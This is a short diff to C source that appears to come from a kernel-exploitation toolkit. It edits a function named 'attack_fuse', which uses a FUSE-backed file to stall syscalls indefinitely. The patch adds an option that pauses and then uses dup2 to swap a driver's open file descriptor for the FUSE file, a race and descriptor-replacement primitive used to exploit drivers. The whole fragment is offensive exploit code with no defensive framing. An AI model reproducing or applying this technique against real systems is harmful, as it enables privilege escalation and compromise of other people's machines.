@@ -135,7 +135,7 @@ static void *make (void *argument)
     return NULL;
 }
 
-/* fuse stat|close|memory: a call on the file, or one whose struct lies in a mapping of it, goes on until somebody ends the server,
+/* fuse stat|close|memory [exchanged]: a call on the file, or one whose struct lies in a mapping of it, goes on until somebody ends the server,
  * whose number is said. Without it the program cannot end either. */
 void attack_fuse (int argc, char **argv)
 {
@@ -153,6 +153,13 @@ void attack_fuse (int argc, char **argv)
     say ("mounted", given.file >= 0);
     if (given.file < 0)
         return;
+    if (argc > 1) { /* what was the driver's node is something else from now on */
+        say ("descriptor", (uint64_t) bed.file);
+        hold ();
+        dup2 (given.file, bed.file);
+        say ("exchanged", (uint64_t) server);
+        hold ();
+    }
     if (silent == FUSE_READ) {
         given.call = mmap (NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, given.file, 0);
         given.file = bed.file;
